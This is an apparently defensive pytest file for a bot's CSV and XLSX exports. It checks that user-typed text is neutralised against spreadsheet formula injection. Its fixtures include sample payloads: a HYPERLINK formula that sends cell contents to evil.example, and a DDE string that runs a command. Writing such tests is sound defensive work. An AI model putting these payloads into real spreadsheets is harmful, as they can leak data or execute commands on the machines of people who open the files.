"""Text anyone typed never runs as a spreadsheet formula in a CSV export (OWASP: a leading
'), in every CSV we write; the XLSX keeps it as typed, stored as text."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.flows import events
from bot.summary.load import load_summary
from bot.summary.render_csv import FORMULA_STARTS, spreadsheet_safe
from bot.summary.schedule import summary_notice
from tests.conftest import Seeded
from tests.reports.conftest import answer

TYPED = {
    ("s1.address", "note"): '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    ("s1.telephone", "note"): "+1+cmd|' /C calc'!A0",
    ("s1.gp", "note"): "-2+3",
    ("s1.other", "answer"): "@SUM(1+1)",
    ("s2.other", "answer"): "＝1+1",
}
SAFE = "A plain note - with a dash = and an @ inside"


@pytest.fixture
async def typed(seeded: Seeded) -> Path:
    await answer(
        seeded,
        "alice",
        events.BatchEntry("s1.address", "yes", TYPED["s1.address", "note"]),
        events.BatchEntry("s1.telephone", "no", TYPED["s1.telephone", "note"]),
        events.BatchEntry("s1.gp", "yes", TYPED["s1.gp", "note"]),
        events.BatchEntry("s1.other", TYPED["s1.other", "answer"]),
        events.BatchEntry("s2.other", TYPED["s2.other", "answer"]),
        events.BatchEntry("s1.attendance", "yes", SAFE),
    )
    return Path(seeded.db.path)


def auditbot(db: Path, *args: str) -> str:
    env = {**os.environ, "AUDITBOT_DB": str(db), "COLUMNS": "200"}
    result = subprocess.run(
        [sys.executable, "-m", "bot", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


def check(text: str) -> None:
    rows = {(r["Partnership"], r["Question id"]): r for r in csv.DictReader(io.StringIO(text))}
    for (question, column), typed_text in TYPED.items():
        row = rows["North Partnership", question]
        assert row[column.capitalize()] == f"'{typed_text}"
    assert rows["North Partnership", "s1.attendance"]["Note"] == SAFE
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_auditbot_export_neutralises_formulas(typed: Path) -> None:
    check(auditbot(typed, "export", "--format", "csv"))


def test_auditbot_summary_csv_file_neutralises_formulas(typed: Path, tmp_path: Path) -> None:
    target = tmp_path / "summary.csv"
    auditbot(typed, "summary", "--format", "csv", "--out", str(target))
    check(target.read_text("utf-8-sig"))


async def test_the_la_summary_csv_neutralises_formulas_and_the_xlsx_keeps_text(
    typed: Path, seeded: Seeded
) -> None:
    notice = summary_notice(await load_summary(seeded.db, seeded.clock()))
    files = {a.filename.rsplit(".", 1)[1]: a.content for a in notice.attachments}
    check((files["csv"] or b"").decode("utf-8-sig"))

    book = load_workbook(io.BytesIO(files["xlsx"] or b""))
    cells = [cell for row in book["Notes"].iter_rows() for cell in row]
    for typed_text in TYPED.values():
        [cell] = [cell for cell in cells if cell.value == typed_text]
        assert cell.data_type == "s"
    assert zipfile.is_zipfile(io.BytesIO(files["zip"] or b""))


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("＠A1", "'＠A1"),
        ("", ""),
        ("Yes", "Yes"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        ("2026-11-02 11:00", "2026-11-02 11:00"),
    ],
)
def test_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe
